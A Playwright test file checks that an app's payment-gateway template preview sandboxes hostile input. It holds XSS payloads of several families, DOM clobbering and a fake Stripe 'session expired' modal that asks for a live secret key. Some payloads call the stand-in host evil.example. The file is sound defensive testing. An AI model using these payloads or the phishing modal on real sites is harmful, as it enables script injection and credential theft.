// The template preview cannot touch the app's page (issue 10): hostile templates of each
// classic XSS family are previewed, and nothing runs, nothing pops up, nothing lands in the
// app's own document, and the frame stays sandboxed without scripts or the app's origin.
import { expect, test } from './fixtures';
import { screenshot } from './helpers';

/** Each payload tries to announce itself on the app's page: a dialog, a flag on top, a title, an element. */
const PAYLOADS: Record<string, string> = {
  script: '<script>top.pwned = "script"; parent.document.title = "pwned"</script>',
  'event handlers': '<img src=x onerror="top.pwned=\'onerror\'"><body onload="alert(1)"><details open ontoggle="top.pwned=1">x</details>',
  'javascript: URLs': '<a id="go" href="javascript:top.pwned=\'js-url\'">Pay now</a><form action="javascript:top.pwned=1"><button>Go</button></form>',
  'SVG and MathML mutation':
    '<svg><style><img src=x onerror="top.pwned=\'svg\'"></style></svg><math><mtext><table><mglyph><style><img src=x onerror="top.pwned=\'math\'">',
  srcdoc: '<iframe srcdoc="<script>top.pwned=\'srcdoc\'</script>"></iframe>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:top.pwned=1"><base href="https://evil.example/">',
  CSS: '<style>body{background:url(https://evil.example/leak)}</style><div style="position:fixed;inset:0;background:red">cover</div>',
  'bridge by name': '<div id="billingDesk" class="pf-v5-c-page">fake bridge</div><form name="billingDesk"></form>',
};

/** The crafted template: a PatternFly modal asking for the Live Secret Key, meant to cover the app. */
const FAKE_MODAL = `{% case provider.payment_gateway.type %}{% when "stripe" %}{% stripe_form %}{% endcase %}
<div class="pf-v5-c-backdrop"><div class="pf-v5-l-bullseye">
  <div class="pf-v5-c-modal-box pf-m-sm" role="dialog" aria-modal="true" aria-labelledby="fake-title">
    <header class="pf-v5-c-modal-box__header"><h1 class="pf-v5-c-modal-box__title" id="fake-title">Stripe session expired</h1></header>
    <div class="pf-v5-c-modal-box__body">Enter your Live Secret Key again to continue.
      <input class="pf-v5-c-form-control" id="stripe-live-secret" name="secret" placeholder="sk_live_…" autofocus>
    </div>
    <footer class="pf-v5-c-modal-box__footer"><button class="pf-v5-c-button pf-m-primary" formaction="https://evil.example/">Continue</button></footer>
  </div>
</div></div>`;

const GATEWAY = '{% case provider.payment_gateway.type %}{% when "stripe" %}{% stripe_form %}{% endcase %}\n';
const FIRST_ANSWER = { timeout: 60_000 };

test('no XSS payload family runs or reaches the app’s page', async ({ launch }) => {
  test.setTimeout(300_000);
  const { page } = await launch();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const requests: string[] = [];
  page.on('request', (request) => {
    if (!/^(app|http:\/\/127\.0\.0\.1)/.test(request.url()) && !request.url().startsWith('about:') && !request.url().startsWith('data:')) {
      requests.push(request.url());
    }
  });
  await page.getByRole('button', { name: 'Payment Gateway template' }).click();
  const field = page.getByLabel(/Payment Gateway \/ Show/);
  const frame = page.getByTestId('template-preview');
  for (const [family, payload] of Object.entries(PAYLOADS)) {
    await field.fill(`${GATEWAY}<p id="marker">${family}</p>${payload}`);
    const body = page.frameLocator('[data-testid="template-preview"]').locator('body');
    await expect(body.locator('#marker'), family).toHaveText(family, FIRST_ANSWER);
    await expect(frame).toHaveAttribute('sandbox', '');
    await expect(body.locator('script, iframe, style, svg, math, meta, base, [style], [onerror], [onload], [ontoggle]'), family).toHaveCount(0);
    await body.locator('a, button').first().click({ trial: false }).catch(() => undefined);
    const state = await page.evaluate(() => ({
      pwned: (window as unknown as { pwned?: unknown }).pwned ?? null,
      title: document.title,
      bridge: typeof (window as unknown as { billingDesk?: unknown }).billingDesk,
      strangers: document.querySelectorAll('#billingDesk, #stripe-live-secret, [role="dialog"]').length,
    }));
    expect(state, family).toEqual({ pwned: null, title: expect.not.stringContaining('pwned') as unknown as string, bridge: 'object', strangers: 0 });
  }
  expect(dialogs).toEqual([]);
  expect(requests).toEqual([]);
});

test('the crafted “Stripe session expired” modal stays inside the preview frame', async ({ launch }) => {
  const { page } = await launch();
  await page.getByRole('button', { name: 'Payment Gateway template' }).click();
  await page.getByLabel(/Payment Gateway \/ Show/).fill(FAKE_MODAL);
  const body = page.frameLocator('[data-testid="template-preview"]').locator('body');
  await expect(body).toContainText('Stripe session expired', FIRST_ANSWER);
  // The app's own page holds no dialog, no backdrop, no such input: the text exists only in the frame.
  await expect(page.getByRole('dialog')).toHaveCount(0);
  await expect(page.locator('.pf-v5-c-backdrop, .pf-v5-c-modal-box, #stripe-live-secret')).toHaveCount(0);
  // The frame is a box in the page, not over it: the rest of the screen stays clickable.
  const box = await page.getByTestId('template-preview').boundingBox();
  const viewport = page.viewportSize();
  expect(box && viewport && box.width * box.height < viewport.width * viewport.height).toBe(true);
  await expect(page.getByRole('button', { name: 'Open file…' })).toBeEnabled();
  await page.getByTestId('template-preview').scrollIntoViewIfNeeded();
  await screenshot(page, 'template-preview-fake-modal', { full: true });
});
